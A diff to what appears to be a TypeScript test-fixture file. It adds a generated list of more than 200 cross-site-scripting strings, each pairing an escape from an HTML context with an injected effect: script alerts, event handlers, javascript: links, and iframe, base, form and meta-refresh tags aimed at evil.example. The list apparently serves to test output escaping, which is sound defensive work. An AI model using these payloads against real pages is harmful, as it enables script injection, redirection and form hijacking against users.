@@ -63,3 +63,39 @@ export const hostileServers: Readonly<Record<string, Partial<Behaviour>>> = {
     refuse: () => ({ bytes: `${hostile}\n${hostile}`, afterwards: 'close' }),
   },
 };
+
+/** Ways out of where a page puts a text, with something that would take effect behind each of them: more than 200. */
+export const breakouts: readonly string[] = [
+  '',
+  '">',
+  "'>",
+  '`>',
+  '-->',
+  ']]>',
+  '</style>',
+  '</script>',
+  '</title>',
+  '</pre>',
+  '</svg>',
+  '</textarea>',
+  '</details></table>',
+].flatMap((wayOut) =>
+  [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '<iframe src=//evil.example>',
+    '<base href=//evil.example>',
+    '<style>*{display:none}</style>',
+    '<link rel=stylesheet href=//evil.example>',
+    '<meta http-equiv=refresh content=0;url=//evil.example>',
+    '<form action=//evil.example><button>send',
+    '<object data=//evil.example>',
+    '<embed src=//evil.example>',
+    '<a href=javascript:alert(1)>here',
+    '<math><mi//xlink:href="data:x,alert(1)">',
+    '<template><b>bold',
+    '<input autofocus onfocus=alert(1)>',
+    '" onmouseover="alert(1)" style="position:fixed',
+  ].map((effect) => wayOut + effect),
+);
